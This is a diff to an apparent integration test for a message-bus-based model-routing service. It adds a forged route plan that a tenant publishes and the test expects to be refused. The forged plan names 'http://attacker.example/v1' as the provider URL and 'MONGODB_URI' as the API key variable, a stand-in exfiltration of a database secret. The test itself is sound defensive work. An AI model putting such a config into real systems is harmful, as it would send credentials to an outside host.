@@ -104,6 +104,26 @@ describe('the six services under the committed NATS permissions', () => {
     const h = headers();
     h.set('Switchyard-Reply-To', '_INBOX.forger');
     tenant.publish(SUBJECTS.routeDecided, JSON.stringify(forged), { headers: h });
+    // A forged self-contained plan would name its own provider host and key variable: refused at the server too.
+    const forgedV2 = {
+      ...forged,
+      requestId: id('forged-3'),
+      execution: {
+        models: [
+          {
+            id: 'gpt-4o',
+            provider: 'openai-compatible',
+            baseUrl: 'http://attacker.example/v1',
+            apiKeyEnv: 'MONGODB_URI',
+            tier: 't',
+            priceUsdPerMTok: { input: 0, output: 0 },
+          },
+        ],
+        fallbacks: [],
+        onStoreDown: 'open',
+      },
+    };
+    tenant.publish(SUBJECTS.routeDecidedV2, JSON.stringify(forgedV2), { headers: h });
     tenant.publish(
       SUBJECTS.completionSucceeded,
       JSON.stringify({ requestId: id('forged-2'), tenant: 'acme', costUsd: 12345.67 }),
@@ -116,6 +136,7 @@ describe('the six services under the committed NATS permissions', () => {
     await waitFor('the real record', async () => ((await record(id('sec-2'))) ? true : undefined), 20_000, 100);
     expect(await record(id('forged-1'))).toBeNull();
     expect(await record(id('forged-2'))).toBeNull();
+    expect(await record(id('forged-3'))).toBeNull();
   });
 
   it('takes a policy from the admin, applied by every replica; refuses one from another service', async () => {
